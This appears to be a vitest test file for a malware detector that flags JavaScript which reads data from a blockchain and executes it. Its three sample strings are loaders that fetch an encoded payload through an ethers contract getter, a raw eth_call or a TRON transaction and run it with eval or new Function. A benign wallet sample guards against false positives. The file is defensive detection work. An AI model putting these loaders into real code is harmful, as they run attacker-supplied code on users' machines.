import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './chain-read-to-code.ts';

const LURES: Readonly<Record<string, string>> = {
  'T62 contract getter': `const { ethers } = require('ethers'); const p = new ethers.JsonRpcProvider('https://rpc.fixture.invalid'); const c = new ethers.Contract('0x0000000000000000000000000000000000000001', ['function getMemo() view returns (string)'], p); (async () => { const m = await c.getMemo(); eval(Buffer.from(m, 'base64').toString()); })();`,
  'T62 raw eth_call': `const axios = require('axios'); axios.post('https://bsc-dataseed.fixture.invalid', { jsonrpc: '2.0', method: 'eth_call', params: [{ to: '0x0000000000000000000000000000000000000001', data: '0x6d4ce63c' }, 'latest'] }).then(r => new Function('require', Buffer.from(r.data.result.slice(2), 'hex').toString())(require));`,
  'T63 transaction input': `async function go() { const t = await (await fetch('https://api.trongrid.io/v1/accounts/TFixtureNotReal/transactions')).json(); const h = t.data[0].raw_data.data; const code = Buffer.from(h, 'hex').toString(); eval(code); } go();`,
};

describe('chain-read-to-code', () => {
  it.each(Object.entries(LURES))('%s', async (_name, code) => {
    expect((await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight)).toEqual(['proof']);
  });

  it('twin: a wallet that shows what it reads', async () => {
    const code = `import { ethers } from 'ethers'; const p = new ethers.JsonRpcProvider('https://rpc.fixture.invalid'); const c = new ethers.Contract('0x01', abi, p); c.balanceOf(a).then(b => render(b)); const f = new Function('return this');`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
